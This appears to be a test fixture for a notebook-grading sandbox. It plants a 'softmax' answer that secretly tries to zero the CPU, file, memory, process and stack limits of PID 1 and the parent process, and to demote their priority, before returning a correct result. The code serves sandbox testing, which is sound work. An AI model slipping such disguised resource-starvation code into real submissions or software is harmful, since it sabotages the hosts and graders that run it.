"""Takes processor time, files and memory away from the first process."""

from tests.hostile.attack_tools import put

POINTS = {}

CODE = """
def softmax(z, axis=-1):
    import os, resource

    for pid in {1, os.getppid()}:
        for name in ("CPU", "NOFILE", "AS", "NPROC", "STACK"):
            try:
                resource.prlimit(pid, getattr(resource, f"RLIMIT_{name}"), (0, 0))
            except OSError:
                continue
            raise AssertionError(name)
        for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0})):
            try:
                change()
            except OSError:
                pass
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""


def make(nb):
    put(nb, "softmax", CODE)
